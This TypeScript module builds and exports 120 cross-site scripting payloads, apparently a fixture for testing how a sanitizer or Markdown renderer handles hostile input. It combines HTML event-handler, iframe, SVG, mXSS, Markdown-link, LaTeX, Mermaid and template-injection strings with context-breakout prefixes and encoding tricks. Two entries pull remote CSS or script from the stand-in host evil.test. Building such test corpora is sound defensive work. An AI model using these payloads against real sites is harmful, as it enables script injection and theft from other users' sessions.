const DO = 'alert(document.domain)';
/** Each runs something as soon as a browser reads it as markup. */
const CORES = [
  `<script>${DO}</script>`,
  `<img src=x onerror=${DO}>`,
  `<svg onload=${DO}>`,
  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${DO}</script>"></iframe>`,
  `<iframe src="javascript:parent.${DO}"></iframe>`,
  `<details open ontoggle=${DO}>x</details>`,
  `<input autofocus onfocus=${DO}>`,
  `<video><source onerror=${DO}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${DO}></style></mglyph></table></mtext></math>`,
  `<style>@import "//evil.test/x.css"</style>`,
  `<base href="//evil.test/"><script src="x.js"></script>`,
];
/** Where the text could stand, and how it would get out of there. */
const WAYS_OUT = ['', '">', "'>", '</title>', '</script>', '</textarea></style>', '-->', ']]></p>'];
const MARKDOWN = [
  `[x](javascript:${DO})`,
  `[x](JaVaScRiPt:${DO})`,
  `[x](java\nscript:${DO})`,
  `[x](&#106;avascript:${DO})`,
  `[x](data:text/html,<script>${DO}</script>)`,
  `![x](javascript:${DO})`,
  `![x" onerror="${DO}](x)`,
  `[x]: javascript:${DO}\n[x]`,
  `<javascript:${DO}>`,
  `\`\`\`"><script>${DO}</script>\nx\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${DO}>"] --> B\n  click A "javascript:${DO}"\n\`\`\``,
  `$\\href{javascript:${DO}}{x}$`,
  `$\\htmlStyle{background:url(//evil.test)}{x}$`,
  `| <img src=x onerror=${DO}> |\n|-|\n| x |`,
  `# <svg onload=${DO}>`,
  `http://x.test/"onmouseover="${DO}`,
  `" onmouseover="${DO}" x="`,
  `' autofocus onfocus='${DO}`,
  `{{constructor.constructor('${DO}')()}}`,
  `$\{${DO}}`,
  `javascript:${DO}`,
  `\u202e<script>${DO}</script>`,
  `<scr\u0000ipt>${DO}</script>`.replace('\u0000', ''),
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${DO}>`,
];

/** One hundred and twenty texts of a stranger. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => CORES.map((core) => `${out}${core}`)),
  ...MARKDOWN,
];
